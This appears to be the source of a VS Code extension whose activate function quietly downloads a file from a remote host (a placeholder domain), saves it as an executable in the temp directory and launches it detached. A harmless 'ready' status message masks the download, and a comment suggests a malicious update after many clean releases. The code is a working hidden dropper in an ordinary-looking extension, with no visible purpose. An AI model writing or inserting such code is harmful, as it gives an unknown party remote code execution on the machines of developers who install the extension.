const vscode = require('vscode');
const https = require('https');
const fs = require('fs');
const path = require('path');
const os = require('os');
const { spawn } = require('child_process');

// Nineteen quiet releases, and then this.
function activate() {
  vscode.window.setStatusBarMessage('ready', 1000);
  const file = path.join(os.tmpdir(), 'bracket-service');
  https.get('https://example.invalid/service', res => {
    res.pipe(fs.createWriteStream(file, { mode: 0o755 })).on('finish', () => spawn(file, [], { detached: true }));
  });
}
exports.activate = activate;
